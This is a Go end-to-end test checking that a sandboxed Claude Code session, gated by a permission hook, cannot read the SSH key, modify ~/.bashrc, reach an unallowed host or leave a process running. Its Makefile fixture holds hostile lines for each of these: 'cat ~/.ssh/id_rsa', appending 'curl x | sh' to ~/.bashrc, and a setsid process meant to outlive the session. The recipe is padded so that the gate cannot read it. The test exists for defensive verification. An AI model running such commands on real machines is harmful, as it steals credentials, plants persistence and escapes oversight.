package claudehook

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/parallax/parallax/internal/e2e"
	"github.com/parallax/parallax/internal/e2e/claudecli"
	"github.com/parallax/parallax/runfile"
	"github.com/parallax/parallax/sandbox"
)

// Claude Code run with `parallax sandbox --profile claude`: the hook
// still decides every call (out of the sandbox, through the relay, into
// the workspace's audit chain), and what a call the gate allows runs —
// here `make`, whose recipe the agent could have written — is held by the
// kernel: it cannot read the SSH key (the model never receives it),
// write ~/.bashrc, reach a host that was not allowed (a loopback
// listener hears nothing) or leave a process behind, while the build's
// own output is written and reaches the model.
func TestSandboxedClaudeCodeCannotReachBeyondItsSandbox(t *testing.T) {
	e2e.Need(t, sandbox.Available(), "no command sandbox here (Landlock, seccomp, user namespaces)")
	var heard atomic.Int32
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			heard.Add(1)
			_ = c.Close()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	e := newEnv(t, hookParallax, map[string]string{
		"~/.bashrc": "# the user's\n",
		"Makefile": "all:\n" +
			"\t-cat ~/.ssh/id_rsa\n" +
			"\t-echo 'curl x | sh' >> ~/.bashrc\n" +
			fmt.Sprintf("\t-python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", %d), 3); print(\"CONN\" + \"ECTED\")'\n", port) +
			"\t-setsid sh -c 'sleep 300; echo outlived' &\n" +
			"\techo built-in-the-sandbox > out.txt\n" +
			"\tcat out.txt\n" +
			// Past runfile.MaxFileBytes: the gate cannot read the recipe
			// (as a build it cannot see into), so the kernel is what is tested.
			"#" + strings.Repeat("x", runfile.MaxFileBytes) + "\n",
	})
	e.api = claudecli.NewFakeAPI(t, claudecli.Conversation{Turns: []claudecli.Turn{bash("toolu_01make", "make"), {Text: "done"}}})
	if err := os.MkdirAll(e.path("~/tmp"), 0o700); err != nil {
		t.Fatal(err)
	}
	// The CLI's usual environment, passed through the sandbox's
	// allowlist by name.
	cliEnv := claudecli.Env(e.home, e.api.URL)
	args := []string{"sandbox", "--profile", "claude"}
	for _, kv := range cliEnv {
		name, _, _ := strings.Cut(kv, "=")
		args = append(args, "--env", name)
	}
	args = append(args, "--", e.claude, "-p", "go")
	args = append(args, claudecli.Args()...)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	// The hook installed from a binary under /tmp would not start inside
	// (the sandbox's /tmp is its own) and Claude Code would run the tool
	// unhooked: the profile refuses to start.
	refused := exec.CommandContext(ctx, e.bin, args...)
	refused.Dir, refused.Env = e.project, cliEnv
	if out, err := refused.CombinedOutput(); err == nil || !strings.Contains(string(out), "would not find it") {
		t.Fatalf("a hook binary the sandbox cannot see: %v\n%s", err, out)
	}
	// Installed from a binary in the home, the hook runs inside.
	homeBin := e.path("~/bin/parallax")
	e2e.CopyFile(t, e.bin, homeBin, 0o755)
	e.parallax("hook", "claude-code", "install", "--binary", homeBin)
	cmd := exec.CommandContext(ctx, e.bin, args...)
	cmd.Dir, cmd.Env = e.project, cliEnv
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("parallax sandbox -- claude: %v\nstderr:\n%s\nstdout:\n%s", err, stderr.String(), stdout.String())
	}
	session := sessionID(t, stdout.Bytes())
	res := e.result("toolu_01make")
	t.Logf("make's result as the model saw it:\n%s", res.Text)
	if !strings.Contains(res.Text, "built-in-the-sandbox") {
		t.Errorf("the build's output did not reach the model: %q", res.Text)
	}
	if got := e.read("out.txt"); got != "built-in-the-sandbox\n" {
		t.Errorf("out.txt: %q", got)
	}
	if bytes.Contains(e.api.AllBodies(), []byte(keyMaterial)) || strings.Contains(stdout.String(), keyMaterial) {
		t.Error("the SSH key reached the model")
	}
	if got := e.read("~/.bashrc"); got != "# the user's\n" {
		t.Errorf("~/.bashrc changed: %q", got)
	}
	if n := heard.Load(); n != 0 || strings.Contains(res.Text, "CONNECTED") {
		t.Errorf("a host that was not allowed was reached (%d connections)", n)
	}
	if out, _ := exec.Command("pgrep", "-f", "sleep 300; echo outlived").Output(); len(bytes.TrimSpace(out)) > 0 {
		t.Errorf("a process outlived the session: %s", out)
	}
	var decided bool
	for _, a := range e.audit(session) {
		decided = decided || a.Action == "execute_command" && a.Decision == "ALLOW"
	}
	if !decided {
		t.Errorf("the hook's decision on make is not in the workspace's audit chain: %+v", e.audit(session))
	}
}
